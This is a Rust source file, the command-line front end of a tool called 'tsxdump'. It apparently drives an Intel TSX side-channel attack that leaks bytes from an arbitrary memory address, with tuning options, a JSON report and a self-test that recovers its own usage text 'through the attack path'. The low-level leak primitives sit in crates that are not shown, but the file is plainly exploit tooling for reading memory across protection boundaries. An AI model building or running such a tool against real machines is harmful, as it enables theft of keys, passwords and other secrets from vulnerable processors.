use std::io::{self, BufWriter};
use std::process::ExitCode;

use anyhow::Result;
use clap::Parser;
use indicatif::MultiProgress;
use log::{error, info, warn};
use serde::Serialize;
use tsxdump_bin::{RawSink, USAGE, dump_range, init_logging_with_progress, parse_hex};
use tsxdump_core::{Driver, LeakConfig, OracleBuffer, SampleAggregator, TargetAddress};
use tsxdump_rtm::RtmPrimitives;

/// CLI arguments for the `tsxdump` binary.
///
/// Exactly two positional arguments select the dump. Anything else, `--help` included,
/// falls back to the self-test.
#[derive(Debug, Parser, Serialize, Clone)]
#[command(disable_help_flag = true, disable_version_flag = true)]
struct CliArgs {
    /// Target address in hex, with or without `0x`.
    #[clap(value_parser = parse_hex)]
    address: usize,
    /// Number of bytes to recover.
    length: usize,
    /// JSON file with the leak configuration.
    #[clap(long = "config")]
    config: Option<String>,
    /// Sample rounds per byte (overrides the config file).
    #[clap(long = "rounds")]
    rounds: Option<usize>,
    /// Zero reads tolerated per transaction (overrides the config file).
    #[clap(long = "zero-retries", conflicts_with = "unbounded_retries")]
    zero_retries: Option<u32>,
    /// Re-read zero bytes forever. May hang on a genuine zero byte.
    #[clap(long = "unbounded-retries")]
    unbounded_retries: bool,
    /// Output file for a JSON report of the recovered bytes.
    #[clap(long = "json")]
    json: Option<String>,
    /// Hide the progress bar.
    #[clap(long = "quiet", short = 'q')]
    quiet: bool,
}

impl CliArgs {
    fn leak_config(&self) -> Result<LeakConfig> {
        let mut config = match &self.config {
            Some(path) => LeakConfig::from_jsonfile(path)?,
            None => LeakConfig::default(),
        };
        if let Some(rounds) = self.rounds {
            config.rounds = rounds;
        }
        if let Some(zero_retries) = self.zero_retries {
            config.zero_retries = Some(zero_retries);
        }
        if self.unbounded_retries {
            warn!("Unbounded zero retries: a zero byte will hang the dump");
            config.zero_retries = None;
        }
        config.validate()?;
        Ok(config)
    }
}

/// Recovers the embedded usage text through the attack path and writes it to stderr.
fn self_test() -> Result<()> {
    let config = LeakConfig::default();
    let cpu = RtmPrimitives::new(&config)?;
    let oracle = OracleBuffer::new(&config)?;
    let mut driver = Driver::new(SampleAggregator::new(&cpu, &oracle, config)?, None);
    let mut sink = RawSink(io::stderr().lock());
    driver.run(TargetAddress::from_ptr(USAGE.as_ptr()), USAGE.len(), &mut sink)?;
    Ok(())
}

fn dump(args: CliArgs, progress: MultiProgress) -> Result<()> {
    let config = args.leak_config()?;
    info!("Leak configuration: {:?}", config);
    let cpu = RtmPrimitives::new(&config)?;
    let oracle = OracleBuffer::new(&config)?;
    let aggregator = SampleAggregator::new(&cpu, &oracle, config)?;
    let mut driver = Driver::new(aggregator, (!args.quiet).then_some(progress));

    let indeterminate = dump_range(
        &mut driver,
        TargetAddress::from(args.address),
        args.length,
        BufWriter::new(io::stdout().lock()),
        args.json.as_deref(),
    )?;
    if indeterminate > 0 {
        warn!("{} of {} bytes indeterminate", indeterminate, args.length);
    }
    Ok(())
}

fn main() -> ExitCode {
    let args = CliArgs::try_parse().ok();
    let progress = match init_logging_with_progress() {
        Ok(progress) => progress,
        Err(e) => {
            eprintln!("Failed to initialize logging: {:?}", e);
            return ExitCode::FAILURE;
        }
    };

    let Some(args) = args else {
        if let Err(e) = self_test() {
            error!("Self-test failed: {:?}", e);
        }
        return ExitCode::FAILURE;
    };
    match dump(args, progress) {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            error!("{:?}", e);
            ExitCode::FAILURE
        }
    }
}
